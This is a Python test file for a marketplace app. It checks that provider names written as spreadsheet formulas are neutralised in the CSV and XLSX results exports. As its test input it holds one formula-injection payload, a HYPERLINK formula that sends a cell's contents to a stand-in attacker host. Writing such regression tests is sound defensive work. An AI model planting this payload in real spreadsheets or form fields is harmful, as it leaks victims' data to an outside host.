"""Issue 9: a provider's name written as a formula reaches the results exports as plain text."""

import csv
import io

from openpyxl import load_workbook

from marketplace.extensions import db
from tests.review.pages.test_admin_pages import _closed_round

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'


def test_results_exports_carry_no_formula(world, flow):
    w, f, round_id, _ = _closed_round(world, flow)
    w.providers[1][0].name = EVIL
    db.session.commit()

    response = f.admin.get(f"/rounds/{round_id}/results.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert "'" + EVIL in [r[2] for r in rows[1:]]
    assert all(not cell.startswith("=") for r in rows for cell in r)

    sheet = load_workbook(io.BytesIO(f.admin.get(f"/rounds/{round_id}/results.xlsx").get_data())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + EVIL in [c.value for c in cells]
    assert all(isinstance(r[3].value, int | float) for r in sheet.iter_rows(min_row=2))
